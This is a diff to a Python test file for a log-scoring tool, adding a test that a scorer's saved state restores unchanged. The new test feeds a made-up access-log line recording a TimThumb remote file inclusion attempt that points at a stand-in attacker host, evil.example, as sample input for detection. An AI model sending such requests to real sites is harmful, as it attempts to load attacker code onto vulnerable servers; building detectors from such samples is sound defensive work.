@@ -1,5 +1,6 @@
 """A scorer that was saved and restored, or fed in another order, says exactly what an undisturbed one says."""
 
+import json
 import random
 from collections.abc import Iterable
 from dataclasses import replace
@@ -214,6 +215,21 @@ def test_state_that_is_none_is_refused(raw: bytes) -> None:
         bench.scorers[0].restore([], raw)
     with pytest.raises(BadInput):
         bench.scorers[0].restore([(1, raw)], bench.scorers[0].meta())
+
+
+def test_what_was_only_accused_by_a_log_is_saved_without_any_traffic() -> None:
+    bench = Bench()
+    line = '203.0.113.9 - - [x] "GET /a/timthumb.php?src=http://evil.example/x.php HTTP/1.1" 200 1'
+    said = json.dumps({"message": line, "fromhost-ip": "198.18.0.20"}).encode()
+    bench.feed(said, source=LOGS, origin="logs/0", kafka_ns=START + 1)
+    bench.mark(START + SECOND)
+    for scorer in bench.scorers:
+        saved, meta = scorer.changed(), scorer.meta()
+        other = bench.scorer(0)
+        other.restore(saved, meta)
+        assert [key for key, _ in other.changed()] == []
+        assert other.meta() == meta
+    assert any(scorer._speaker.standings for scorer in bench.scorers)
 
 
 def test_bucket_that_does_not_hang_together_is_refused() -> None:
